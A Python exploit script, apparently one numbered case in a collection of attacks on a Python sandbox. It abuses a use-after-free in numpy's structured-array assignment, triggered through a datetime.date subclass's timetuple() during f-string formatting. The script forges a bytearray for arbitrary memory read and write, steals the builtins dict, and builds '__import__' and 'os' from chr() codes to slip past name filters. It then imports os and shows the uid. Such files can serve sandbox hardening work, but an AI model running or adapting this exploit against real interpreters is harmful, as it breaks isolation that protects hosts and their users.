# source: CPython 3.11 Modules/_datetimemodule.c date_strftime/datetime_strftime (PyObject_CallMethodNoArgs(self, "timetuple")) and date_format (calls strftime); numpy 1.24 VOID_setitem reads row tuple items borrowed
# family: library code calls a method of the script by name from inside a conversion: a datetime.date/datetime subclass's own timetuple() runs from f"{self.d:%Y}" in __str__ (date.__format__ -> strftime -> timetuple by name)
# goal: same hole as attack12bv_048_date_subclass_timetuple_fstring.py, carried on: with the forged bytearray's read/write, put the builtins dict (read from a def's func_builtins) into a __slots__ field, then __import__ by a chr()-built name: imports 'this' (prints the Zen) and 'os' (uid shown)
import numpy as np
import pandas as pd
import datetime

keep = []
hold = []


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


def boom(*a, **k):
    junk = [(n, n + 1) for n in range(300)]
    hold[0][0] = 0
    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
    payload = payload + bytes(479 - len(payload))
    for n in range(8):
        keep.append(bytearray(payload))
    junk.clear()
    return 1.0




class D(datetime.date):
    def timetuple(self):
        if len(hold) > 0 and len(keep) == 0:
            boom()
        return super().timetuple()


class A:
    def __init__(self, d):
        self.d = d

    def __str__(self):
        return f"{self.d:%Y}"


lst = [(A(D(2020, 1, 2)), bytes(447))]
hold.append(lst)
arr = np.array(lst, dtype=[("x", "U8"), ("y", "O")])
fake = arr["y"][0]
print("fake object:", type(fake), len(fake))


def rd(addr):
    return int.from_bytes(bytes(fake[addr:addr + 8]), "little")


def wr(addr, v):
    fake[addr:addr + 8] = q(v)


def where(x):
    return int(repr(x).split("at ")[1][:-1], 16)


class Box:
    __slots__ = ("v",)


def probe():
    return 0


box = Box()
box.v = None
fn = where(probe)
bdict = rd(fn + 24)
wr(bdict, rd(bdict) + 1)
wr(where(box) + 16, bdict)
table = box.v
name = "".join(chr(c) for c in (95, 95, 105, 109, 112, 111, 114, 116, 95, 95))
imp = table[name]
print("got", imp)
mod = imp("".join(chr(c) for c in (116, 104, 105, 115)))
osm = imp("".join(chr(c) for c in (111, 115)))
print("module os:", osm, "uid", osm.getuid())
